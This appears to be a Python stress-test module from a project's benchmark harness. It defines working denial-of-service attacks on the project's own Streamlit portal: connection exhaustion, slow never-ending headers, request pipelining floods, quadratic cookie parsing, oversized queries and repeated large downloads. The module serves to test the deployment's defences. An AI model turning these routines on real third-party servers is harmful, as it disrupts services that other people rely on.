"""Attacks on a portal over HTTP. `bench.attacks` repeats each in a process until it kills it."""

import selectors
import socket
import time
from contextlib import suppress
from pathlib import Path

from bench.target import ATTACKER, Target
from web.streamlit_compat import get_static_folder

_REOPEN_SECONDS = 0.1
"""Pause before a closed connection is reopened. With this pause, all attacks together open
connections at about the highest rate that `deploy/haproxy.cfg` allows for one client address.
"""


def open_idle_connections(target: Target) -> None:
    """Open connections and send nothing."""
    connections = []
    with suppress(OSError):
        for _ in range(1000):
            connections.append(target.connect(ATTACKER))
    time.sleep(20)


def send_escaped_cookies(target: Target) -> None:
    """Send cookies that take quadratic time to parse."""
    cookie = 'a="' + '\\"' * 8_000 + '"'
    request = f"GET /_stcore/health HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {ATTACKER}\r\n"
    with target.connect(ATTACKER) as connection:
        while True:
            connection.sendall(f"{request}Cookie: {cookie}\r\n\r\n".encode())
            if not connection.recv(65_536):
                return


def pipeline_requests(target: Target) -> None:
    """Pipeline 13,000 requests on each of 40 connections and read no responses."""
    request = f"GET /x HTTP/1.1\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n".encode()
    connections = []
    with suppress(OSError):
        for _ in range(40):
            connections.append(target.connect(ATTACKER))
            connections[-1].settimeout(1)
            connections[-1].sendall(request * 13_000)
    time.sleep(1)


def download_files(target: Target) -> None:
    """Download Streamlit's largest file repeatedly on 90 connections."""
    largest = max(
        Path(get_static_folder(), "static", "js").glob("*.js"), key=lambda f: f.stat().st_size
    )
    request = (
        f"GET /static/js/{largest.name} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n"
    )
    size = largest.stat().st_size
    selector = selectors.DefaultSelector()
    remaining: dict[socket.socket, int] = {}
    """Bytes of the current response that each connection has not received."""
    for _ in range(90):
        connection = target.connect(ATTACKER)
        connection.sendall(request.encode())
        selector.register(connection, selectors.EVENT_READ)
        remaining[connection] = size
    while True:
        for key, _ in selector.select():
            connection = next(c for c in remaining if c.fileno() == key.fd)
            if not (read := len(connection.recv(1_000_000))):
                return
            remaining[connection] -= read
            if remaining[connection] <= 0:
                connection.sendall(request.encode())
                remaining[connection] += size


def request_public_routes(target: Target) -> None:
    """Request routes that need no sign-in repeatedly on 50 connections."""
    requests = [
        f"GET {path} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n".encode()
        for path in ("/api/v1/app/me", "/api/openapi.json", "/api/ready", "/_stcore/health")
    ]
    connections = [target.connect(ATTACKER) for _ in range(50)]
    for number in range(1_000_000):
        connection = connections[number % 50]
        connection.sendall(requests[number % 4])
        if number >= 50 and not connections[(number + 1) % 50].recv(1_000_000):
            return


def send_endless_header(target: Target) -> None:
    """Send a header that never ends."""
    with target.connect(ATTACKER) as connection:
        connection.sendall(f"GET /x HTTP/1.1\r\nX-Forwarded-For: {ATTACKER}\r\nX: ".encode())
        for _ in range(1_000):
            connection.sendall(b"x" * 20_000)
            time.sleep(0.02)


def send_long_queries(target: Target) -> None:
    """Request a page with 8,000 query parameters on 20 connections."""
    query = "%e0=%e0&" * 8_000
    _repeat_request(target, f"GET /?{query} HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n", 20)


def provoke_refusals(target: Target) -> None:
    """Send more requests at once than one address may, repeatedly."""
    _repeat_request(target, "GET /api/v1/app/me HTTP/1.1\r\nHost: x\r\n", 300)


def request_missing_files(target: Target) -> None:
    """Request files that do not exist. Streamlit alone would answer with its HTML page."""
    _repeat_request(target, "GET /x.js HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n", 90)


def _repeat_request(target: Target, head: str, count: int) -> None:
    """Repeat a request on ``count`` connections; reopen connections that the server closes."""
    request = f"{head}X-Forwarded-For: {ATTACKER}\r\n\r\n".encode()
    with selectors.DefaultSelector() as selector:

        def open_connection() -> None:
            connection = target.connect(ATTACKER)
            selector.register(connection, selectors.EVENT_READ)
            connection.sendall(request)

        for _ in range(count):
            open_connection()
        while True:
            for key, _ in selector.select():
                assert isinstance(key.fileobj, socket.socket)
                try:
                    response = key.fileobj.recv(1_000_000)
                    if b"HTTP/1.1 " in response:
                        key.fileobj.sendall(request)
                except OSError:
                    response = b""
                if not response:
                    selector.unregister(key.fileobj)
                    key.fileobj.close()
                    time.sleep(_REOPEN_SECONDS)
                    open_connection()
